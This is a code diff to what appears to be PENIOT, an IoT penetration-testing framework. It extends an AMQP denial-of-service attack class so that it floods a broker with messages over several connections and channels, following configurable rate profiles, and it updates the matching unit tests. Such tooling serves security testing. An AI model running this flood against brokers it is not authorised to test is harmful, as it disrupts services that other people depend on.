@@ -8,6 +8,8 @@ import pika
 
 from Entity.attack import Attack
 from Entity.input_format import InputFormat
+from Utils.RateUtil.rate_limiter import RateLimiter, create_profile
+from protocols.AMQP.amqp_load_engine import AMQPLoadEngine, DEFAULT_CONFIRM_WINDOW
 
 
 class AMQPDoSAttack(Attack):
@@ -22,16 +24,21 @@ class AMQPDoSAttack(Attack):
     body = "peniot-body"
     exchange_type = "direct"
     timeout = 0.01
+    rate_profile = ""  # Overrides timeout, e.g. ramp:0:20000:60
+    connection_count = 1
+    channel_count = 1
+    confirms = False
+    confirm_window = DEFAULT_CONFIRM_WINDOW
 
     # Misc Members
-    connection = None
-    channel = None
+    load_engine = None
     logger = None
     sent_message_count = 0
     stopped_flag = False
+    rate_limiter = None
 
     def __init__(self):
-        default_parameters = ["", "", "", "", "", "", 10.0]
+        default_parameters = ["", "", "", "", "", "", 10.0, "", 1, 1, False, DEFAULT_CONFIRM_WINDOW]
         inputs = [
             InputFormat("Host Name", "host", "localhost", str, mandatory=True),
             InputFormat("Queue Name", "queue", "peniot-queue", str, mandatory=True),
@@ -39,13 +46,27 @@ class AMQPDoSAttack(Attack):
             InputFormat("Routing Key", "routing_key", "peniot-routing-key", str, mandatory=True),
             InputFormat("Message Body", "body", "peniot-body", str, mandatory=True),
             InputFormat("Exchange Type", "exchange_type", "direct", str, mandatory=True),
-            InputFormat("Timeout", "timeout", self.timeout, float)
+            InputFormat("Timeout", "timeout", self.timeout, float),
+            InputFormat("Rate Profile", "rate_profile", self.rate_profile, str),
+            InputFormat("Connection Count", "connection_count", self.connection_count, int),
+            InputFormat("Channels per Connection", "channel_count", self.channel_count, int),
+            InputFormat("Publisher Confirms", "confirms", self.confirms, bool),
+            InputFormat("Unconfirmed Message Window", "confirm_window", self.confirm_window, int)
         ]
 
         Attack.__init__(self, "AMQP DoS Attack", inputs, default_parameters,
                         "    We send AMQP requests to the client.\n"
                         "    The time difference between those requests\n"
-                        "    can be specified.")
+                        "    can be specified. Rate profile can be\n"
+                        "    a constant rate or\n"
+                        "    ramp:<start>:<end>:<ramp duration>,\n"
+                        "    step:<start>:<step>:<step duration>[:<max>],\n"
+                        "    spike:<base>:<spike>:<period>:<spike duration>\n"
+                        "    or soak:<rate>:<duration>.\n"
+                        "    Messages are published over the given number\n"
+                        "    of connections and channels, with publisher\n"
+                        "    confirms a window of unconfirmed messages\n"
+                        "    is kept on each channel.")
 
         logging.basicConfig(level=logging.DEBUG, format="%(asctime)s:%(levelname)s:%(name)s:%(message)s")
 
@@ -58,31 +79,36 @@ class AMQPDoSAttack(Attack):
     def stop_attack(self):
         self.logger.info("Connection will be closed")
         self.stopped_flag = True
-        if self.connection is not None:
-            self.connection.close()
+        if self.load_engine is not None:
+            self.load_engine.stop()
         time.sleep(2)  # Sleep two seconds so the user can see the message
 
     def pre_attack_init(self):
-        # Get connection and channel
-        self.connection = pika.BlockingConnection(pika.ConnectionParameters(host=self.host))
-        self.channel = self.connection.channel()
-
-        # Create exchange
-        self.channel.exchange_declare(exchange=self.exchange, exchange_type=self.exchange_type)
-
-        # Define queue to store
-        self.channel.queue_declare(queue=self.queue)
+        # Exchange and queue are declared once over a blocking connection before the load starts
+        connection = pika.BlockingConnection(pika.ConnectionParameters(host=self.host))
+        try:
+            channel = connection.channel()
+            channel.exchange_declare(exchange=self.exchange, exchange_type=self.exchange_type)
+            channel.queue_declare(queue=self.queue)
+        finally:
+            connection.close()
+
+        # Timeout between messages is used as the rate unless a rate profile is given
+        self.rate_limiter = RateLimiter(create_profile(self.rate_profile, 1. / self.timeout if self.timeout > 0 else 0))
+        self.load_engine = AMQPLoadEngine(pika.ConnectionParameters(host=self.host), self.exchange, self.routing_key,
+                                          self.body, self.connection_count, self.channel_count, self.confirms,
+                                          self.confirm_window, self.rate_limiter, metrics=self.metrics)
 
     def run(self):
         super(AMQPDoSAttack, self).run()
         self.pre_attack_init()
 
-        # Start client loop for requests
-        while self.stopped_flag is True:
-            self.sent_message_count += 1
-            self.channel.basic_publish(exchange=self.exchange, routing_key=self.routing_key, body=self.body)
-            self.logger.info("{0} messages published.".format(str(self.sent_message_count)))
-            time.sleep(self.timeout)
+        # Engine publishes until it is stopped or the rate profile is finished, it reports rates periodically
+        if self.stopped_flag is False:
+            self.load_engine.run()
+        self.sent_message_count = self.load_engine.published_count
+        self.logger.info(self.load_engine.get_summary())
+        self.metrics.finish()
 
 
 class TestMQTTDoSAttack(unittest.TestCase):
@@ -99,7 +125,7 @@ class TestMQTTDoSAttack(unittest.TestCase):
         inputs = self.amqp_dos_attack.get_inputs()
         self.assertIsNotNone(inputs)
         self.assertGreater(len(inputs), 0, "Non inserted inputs")
-        self.assertEquals(len(inputs), 7)
+        self.assertEquals(len(inputs), 12)
 
     def test_non_initialized_inputs(self):
         inputs = self.amqp_dos_attack.get_inputs()
@@ -109,12 +135,12 @@ class TestMQTTDoSAttack(unittest.TestCase):
 
     def test_after_getting_inputs(self):
         example_inputs = ["a.b.c.d", "pen-queue", "pen-exchange", "pen-routing-key", "peniot-payload", "pen-exh-type",
-                          13.2]
+                          13.2, "spike:10:100:5:1", 4, 8, True, 500]
         for index, _input in enumerate(example_inputs):
             self.amqp_dos_attack.inputs[index].set_value(_input)
 
         # Previously it should not be set
-        self.assertIsNone(self.amqp_dos_attack.connection)
+        self.assertIsNone(self.amqp_dos_attack.load_engine)
 
         super(AMQPDoSAttack, self.amqp_dos_attack).run()
 
@@ -126,7 +152,7 @@ class TestMQTTDoSAttack(unittest.TestCase):
     def test_dos_attack(self):
         def run_attack():
             example_inputs = ["localhost", "peniot-queue", "peniot-exchange", "peniot-routing-key", "peniot-body",
-                              "direct", 1]
+                              "direct", 1, "", 2, 2, True, 1000]
             for index, _input in enumerate(example_inputs):
                 self.amqp_dos_attack.inputs[index].set_value(_input)
 